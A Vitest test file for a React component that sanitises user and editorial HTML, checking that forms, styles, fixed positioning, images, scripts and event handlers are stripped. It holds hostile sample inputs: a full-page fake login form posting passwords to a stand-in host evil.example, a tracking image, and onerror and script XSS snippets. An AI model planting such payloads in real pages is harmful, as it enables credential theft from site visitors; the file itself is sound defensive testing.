import { describe, expect, it } from 'vitest';
import { renderWithProviders } from '../test/render';
import { HtmlContent } from './html-content';

const TAKEOVER =
  '<div style="position:fixed;inset:0;z-index:9999"><form action="https://evil.example/steal" method=post><input name=password type=password><button>Log in</button></form></div><style>body{outline:9px solid red}</style><img src="https://evil.example/t.png">';

describe('HtmlContent', () => {
  it('shows a review as text formatting only: no form, style, positioning or picture', () => {
    const { container } = renderWithProviders(<HtmlContent policy="user" html={`<p>Hello <b>there</b></p>${TAKEOVER}`} />);
    expect(container.querySelector('b')).toHaveTextContent('there');
    // Mantine's own <style data-mantine-styles> is the app's, not the review's.
    expect(container.querySelector('form, input, button, style:not([data-mantine-styles]), img, [style*="fixed"]')).toBeNull();
    expect(container).not.toHaveTextContent('Log in');
  });

  it('shows an editorial text with its headings, links and pictures, without scripts or handlers', () => {
    const dirty = '<h2>About</h2><a href="/Blog">blog</a><img src="/media/a.svg" onerror="window.__xss=1"><script>window.__xss=2</script>';
    const { container } = renderWithProviders(<HtmlContent policy="editorial" html={dirty} />);
    expect(container.querySelector('h2')).toHaveTextContent('About');
    expect(container.querySelector('a')).toHaveAttribute('href', '/Blog');
    expect(container.querySelector('img')).toHaveAttribute('src', '/media/a.svg');
    expect(container.querySelector('img')?.getAttribute('onerror')).toBeNull();
    expect(container.querySelector('script')).toBeNull();
  });
});
